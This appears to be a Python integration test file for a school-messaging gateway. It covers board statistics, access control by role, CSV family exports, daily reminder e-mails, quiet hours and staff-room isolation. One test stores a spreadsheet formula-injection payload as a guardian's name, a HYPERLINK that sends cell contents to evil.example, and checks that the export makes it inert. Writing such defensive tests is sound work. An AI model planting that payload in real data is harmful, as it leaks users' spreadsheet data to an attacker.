"""The director's board (issue 17) on real `liaison serve --demo` processes: the figures of the
demo school after scripted reads, who may see them (a teacher their class only, never a
guardian), the CSV lists with formulas made inert, the e-mail reminder once a day, and the
staff room over two gateways on one real Redis."""

from __future__ import annotations

import csv
import io
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

from tests.integration.conftest import FAST, token
from tests.integration.signin_helpers import call
from tests.support.gateway_server import GatewayProcess, start_gateway
from tests.support.push_service import start_push_service
from tests.support.redis_servers import RedisServer
from tests.support.waiting import wait_for
from tests.support.ws_client import UNIT, Client

API_KEY = "k" * 32
SCHOOL = "ecole-jaures"
NEVER_QUIET = {"start": "00:00", "end": "00:00", "weekends": False, "timezone": "Europe/Paris"}
ALWAYS_QUIET = {"start": "00:00", "end": "23:59", "weekends": True, "timezone": "Europe/Paris"}


def quiet_hours(gateway: GatewayProcess, rules: dict[str, Any]) -> None:
    answer = call(gateway.http, "PUT", f"/api/v1/admin/schools/{SCHOOL}/quiet-hours", rules, bearer=API_KEY)
    assert answer.status == 200, answer.body


def get_raw(gateway: GatewayProcess, path: str, bearer: str) -> tuple[int, str, bytes]:
    request = urllib.request.Request(gateway.http + path, headers={"Authorization": f"Bearer {bearer}"})
    try:
        with urllib.request.urlopen(request, timeout=UNIT) as response:
            return response.status, response.headers.get("content-type", ""), response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers.get("content-type", ""), exc.read()


def board(gateway: GatewayProcess, path: str, user: str) -> dict[str, Any]:
    answer = call(gateway.http, "GET", path, bearer=token(user))
    assert answer.status == 200, answer.body
    body: dict[str, Any] = answer.body
    return body


async def connect(gateway: GatewayProcess, user: str, **params: Any) -> Client:
    client = await Client.open(gateway.ws)
    client.connected = await client.ok("connect", token=token(user), **params)
    return client


async def test_the_figures_follow_the_families_reads(make_server) -> None:
    gateway = make_server(env={"LIAISON_API_KEY": API_KEY})
    teacher, director = await connect(gateway, "t-martin"), await connect(gateway, "d-bernard")
    father, durand = await connect(gateway, "p-lea-pere"), await connect(gateway, "p-durand")
    try:
        first = await teacher.ok("publish", channel="class:cp-a", kind="post", data={"text": "Sortie vendredi"})
        second = await teacher.ok("publish", channel="class:cp-a", kind="homework",
                                  data={"text": "Lire p. 12", "due": "2030-01-10"})
        notice = await director.ok("publish", channel=f"school:{SCHOOL}", kind="announcement",
                                   data={"title": "Grève jeudi", "text": "Pas de cantine", "urgent": False})
        before = board(gateway, "/api/v1/board/classes/cp-a", "t-martin")["figures"]
        assert before["families"] == 2 and before["families_inactive"] == 2
        assert [p["families_read"] for p in before["last_posts"]] == [0, 0]
        assert before["first_read_median_seconds"] is None and before["posts_this_week"] == 2
        # one guardian of Léa's two households reads everything: her family is reached
        await father.ok("read", channel="class:cp-a", seq=second["seq"])
        after = board(gateway, "/api/v1/board/classes/cp-a", "t-martin")["figures"]
        assert [p["families_read"] for p in after["last_posts"]] == [1, 1]
        assert (after["seen_median"], after["seen_lowest"]) == (0.5, 0.5)
        assert after["families_inactive"] == 1  # Hugo's family has read nothing
        assert after["first_read_median_seconds"] is not None and after["first_read_median_seconds"] < 60
        assert after["week_posts_unread"] == 0
        school = board(gateway, f"/api/v1/board/schools/{SCHOOL}", "d-bernard")
        assert [c["class"] for c in school["classes"]] == ["cm2-b", "cp-a"]
        assert school["totals"]["families"] == 4 and school["totals"]["families_inactive"] == 3
        assert school["totals"]["posts_this_week"] == 2
        [pending] = school["announcements"]
        assert (pending["seq"], pending["title"], pending["families_read"], pending["families_total"]) == (
            notice["seq"], "Grève jeudi", 0, 4)
        hugo = next(f for f in school["families"] if f["student"] == "s-hugo")
        assert hugo["inactive"] and hugo["guardians"][0]["phone"] is None
        assert hugo["guardians"][0]["email"] == "sophie.durand@example.fr"
        # Sophie Durand has two children, in two classes: one read is two families reached
        await durand.ok("read", channel=f"school:{SCHOOL}", seq=notice["seq"])
        school = board(gateway, f"/api/v1/board/schools/{SCHOOL}", "d-bernard")
        assert school["announcements"][0]["families_read"] == 2
        assert school["totals"]["families_inactive"] == 1  # only Adam's family now
        assert first["seq"] == 1
        # the admin API's figures keep the v1.1 contract fields
        reach = call(gateway.http, "GET", f"/api/v1/admin/schools/{SCHOOL}/reach", bearer=API_KEY).body
        cp = next(c for c in reach["classes"] if c["class"] == "cp-a")
        contract = ("class", "families", "families_never_signed_in", "families_not_notifiable")
        # a read signs in (a demo or portal token has no code sign-in): Léa's father and Hugo's mother
        assert {k: cp[k] for k in contract} == {"class": "cp-a", "families": 2, "families_never_signed_in": 0,
                                                "families_not_notifiable": 0}
    finally:
        for client in (teacher, director, father, durand):
            await client.close()


async def test_a_teacher_sees_their_class_only_and_guardians_nothing(server: GatewayProcess) -> None:
    assert board(server, "/api/v1/board/classes/cp-a", "t-martin")["class"] == "cp-a"
    assert board(server, "/api/v1/board/classes/cm2-b", "d-bernard")["class"] == "cm2-b"  # the director: all
    refused = [
        ("t-martin", "/api/v1/board/classes/cm2-b"),
        ("t-martin", f"/api/v1/board/schools/{SCHOOL}"),
        ("t-martin", "/api/v1/board/classes/cm2-b/families.csv"),
        ("t-martin", f"/api/v1/board/schools/{SCHOOL}/families.csv"),
    ]
    for guardian in ("p-durand", "p-lea-mere", "p-adam"):
        refused += [(guardian, f"/api/v1/board/schools/{SCHOOL}"),
                    (guardian, "/api/v1/board/classes/cp-a"),
                    (guardian, "/api/v1/board/classes/cm2-b"),
                    (guardian, "/api/v1/board/classes/cp-a/families.csv?list=inactive"),
                    (guardian, f"/api/v1/board/schools/{SCHOOL}/families.csv")]
    for user, path in refused:
        status, _, body = get_raw(server, path, token(user))
        assert status == 403, (user, path, body)
        assert b"@" not in body and b"Durand" not in body, "a refusal says nothing of the families"
    for guardian in ("p-durand", "t-nguyen"):
        answer = call(server.http, "POST", "/api/v1/board/reminders", {"channel": "class:cp-a", "seq": 1},
                      bearer=token(guardian))
        assert answer.status in (403, 404), answer.body
    assert get_raw(server, "/api/v1/board/classes/cp-a", "not-a-token")[0] == 401
    assert get_raw(server, "/api/v1/board/classes/nowhere", token("d-bernard"))[0] == 404


async def test_the_csv_lists_open_in_a_spreadsheet_without_formulas(make_server) -> None:
    gateway = make_server(env={"LIAISON_API_KEY": API_KEY})
    evil = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
    person = {"school_id": SCHOOL, "name": evil, "role": "guardian", "email": "karim.benali@example.fr",
              "phone": "+33 6 12 34 56 78"}
    assert call(gateway.http, "PUT", "/api/v1/admin/people/p-adam", person, bearer=API_KEY).status == 200
    for path, bearer in ((f"/api/v1/admin/schools/{SCHOOL}/families.csv?list=never_signed_in", API_KEY),
                         (f"/api/v1/board/schools/{SCHOOL}/families.csv?list=never_signed_in", token("d-bernard")),
                         ("/api/v1/board/classes/cm2-b/families.csv?list=inactive", token("t-nguyen"))):
        status, content_type, body = get_raw(gateway, path, bearer)
        assert status == 200, body
        assert content_type == "text/csv; charset=utf-8"
        assert body.startswith(b"\xef\xbb\xbf"), "a BOM, so that Excel reads the accents"
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
        assert rows[0][:5] == ["Classe", "Élève", "Responsable", "E-mail", "Téléphone"]
        adam = next(r for r in rows if r[1] == "Adam Benali")
        assert adam[2] == "'" + evil and adam[4] == "'+33612345678"  # stored without spaces
        for row in rows:
            for cell in row:
                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    status, _, body = get_raw(gateway, f"/api/v1/admin/schools/{SCHOOL}/families.csv?list=bogus", API_KEY)
    assert status == 400 and b"never_signed_in" in body


async def test_a_reminder_goes_to_the_unread_families_once_a_day(make_server) -> None:
    gateway = make_server(env={"LIAISON_API_KEY": API_KEY})
    quiet_hours(gateway, NEVER_QUIET)  # whenever the suite runs
    director, mother = await connect(gateway, "d-bernard"), await connect(gateway, "p-lea-mere")
    try:
        notice = await director.ok("publish", channel=f"school:{SCHOOL}", kind="announcement",
                                   data={"title": "Photos de classe", "text": "Mardi", "urgent": False})
        await mother.ok("read", channel=f"school:{SCHOOL}", seq=notice["seq"])
        body = {"channel": f"school:{SCHOOL}", "seq": notice["seq"]}
        sent = call(gateway.http, "POST", "/api/v1/board/reminders", body, bearer=token("d-bernard"))
        assert sent.status == 200, sent.body
        assert (sent.body["sent"], sent.body["families_unread"]) == (2, 3)  # Sophie Durand, Karim Benali

        def reminders() -> list[str]:
            return sorted(m["to"] for m in call(gateway.http, "GET", "/demo/outbox").body
                          if "annonce" in str(m["subject"]))

        await wait_for(lambda: len(reminders()) == 2, what="the two reminder e-mails")
        assert reminders() == ["karim.benali@example.fr", "sophie.durand@example.fr"]
        again = call(gateway.http, "POST", "/api/v1/board/reminders", body, bearer=token("d-bernard"))
        assert again.status == 409 and again.body["error"]["reason"] == "reminded_today"
        assert again.body["error"]["retry_at"] > time.time() + 23 * 3600
        assert reminders() == ["karim.benali@example.fr", "sophie.durand@example.fr"]
        missing = call(gateway.http, "POST", "/api/v1/board/reminders", {**body, "seq": 99},
                       bearer=token("d-bernard"))
        assert missing.status == 404
    finally:
        await director.close()
        await mother.close()


async def test_no_reminder_in_quiet_hours_unless_urgent(make_server) -> None:
    gateway = make_server(env={"LIAISON_API_KEY": API_KEY})
    quiet_hours(gateway, ALWAYS_QUIET)
    director = await connect(gateway, "d-bernard")
    try:
        calm = await director.ok("publish", channel=f"school:{SCHOOL}", kind="announcement",
                                 data={"text": "Kermesse samedi", "urgent": False})
        urgent = await director.ok("publish", channel=f"school:{SCHOOL}", kind="announcement",
                                   data={"text": "École fermée demain (inondation)", "urgent": True})
        reminders, room = "/api/v1/board/reminders", f"school:{SCHOOL}"
        boss = token("d-bernard")
        held = call(gateway.http, "POST", reminders, {"channel": room, "seq": calm["seq"]}, bearer=boss)
        assert held.status == 409 and held.body["error"]["reason"] == "quiet_hours", held.body
        assert "Europe/Paris" in held.body["error"]["message"]
        assert not [m for m in call(gateway.http, "GET", "/demo/outbox").body if "annonce" in str(m["subject"])]
        sent = call(gateway.http, "POST", reminders, {"channel": room, "seq": urgent["seq"]}, bearer=boss)
        assert sent.status == 200 and sent.body["sent"] == 4, sent.body  # every guardian has an address
    finally:
        await director.close()


async def test_the_staff_room_over_two_gateways_never_reaches_a_guardian(tmp_path: Path,
                                                                          redis_server: RedisServer) -> None:
    env = {**FAST, "LIAISON_REDIS_URL": redis_server.url, "LIAISON_STORE_URL": f"sqlite:///{tmp_path / 's.db'}"}
    gateways = []
    for i in range(2):
        (tmp_path / f"gw{i}").mkdir()
        gateways.append(start_gateway(tmp_path / f"gw{i}", env=env))
    room = f"staff:{SCHOOL}"
    clients: list[Client] = []
    try:
        director = await connect(gateways[0], "d-bernard")
        teacher = await connect(gateways[1], "t-martin")
        names = ("p-durand", "p-lea-mere", "p-lea-pere", "p-adam")
        parents = [await connect(gateways[i % 2], p, since={room: 0}) for i, p in enumerate(names)]
        clients += [director, teacher, *parents]
        sent = await director.ok("publish", channel=room, kind="announcement",
                                 data={"text": "Conseil des maîtres", "urgent": True})
        assert (await teacher.push("message"))["message"]["seq"] == sent["seq"]  # across gateways
        reply = await teacher.ok("publish", channel=room, kind="post", data={"text": "Je serai là"})
        assert [m["seq"] for m in await director.messages(2)] == [sent["seq"], reply["seq"]]
        assert (await director.ok("receipts", channel=room, seq=sent["seq"]))["families_total"] == 0
        for name, parent in zip(names, parents, strict=True):
            assert room not in {c["channel"] for c in parent.connected["channels"]}
            for op, params in (("subscribe", {}), ("history", {}), ("presence", {}), ("receipts", {"seq": 1}),
                               ("read", {"seq": 1}), ("publish", {"kind": "post", "data": {"text": "x"}})):
                assert await parent.error(op, channel=room, **params) == "forbidden", op
            assert await parent.error("typing", channel=room) == "bad_request"  # typing: chats only
            history = call(gateways[1].http, "GET", f"/api/v1/channels/{room}/messages",
                           bearer=token(name))
            assert history.status == 403
        for parent in parents:
            await parent.ok("ping")
            assert parent.no_push_now()
    finally:
        for client in clients:
            await client.close()
        for gateway in gateways:
            gateway.stop()


async def test_a_push_subscription_makes_a_guardian_notifiable(make_server) -> None:
    gateway = make_server(env={"LIAISON_API_KEY": API_KEY, "LIAISON_PUSH_ALLOWED_HOSTS": "127.0.0.1"})
    person = {"school_id": SCHOOL, "name": "Sophie Durand", "role": "guardian"}  # no e-mail any more
    assert call(gateway.http, "PUT", "/api/v1/admin/people/p-durand", person, bearer=API_KEY).status == 200
    before = board(gateway, "/api/v1/board/classes/cp-a", "t-martin")
    assert before["figures"]["families_not_notifiable"] == 1  # Hugo's family: no device, no address
    [hugo] = [f for f in before["families"] if f["student"] == "s-hugo"]
    assert hugo["not_notifiable"] and hugo["guardians"][0]["notifiable"] is False
    service = start_push_service()
    try:
        subscription = service.subscription("durand-phone").to_json()
        added = call(gateway.http, "POST", "/api/v1/me/push-subscriptions", subscription, bearer=token("p-durand"))
        assert added.status == 201, added.body
        after = board(gateway, "/api/v1/board/classes/cp-a", "t-martin")
        assert after["figures"]["families_not_notifiable"] == 0
        assert all(f["student"] != "s-hugo" or not f["some_not_notifiable"] for f in after["families"])
    finally:
        service.stop()
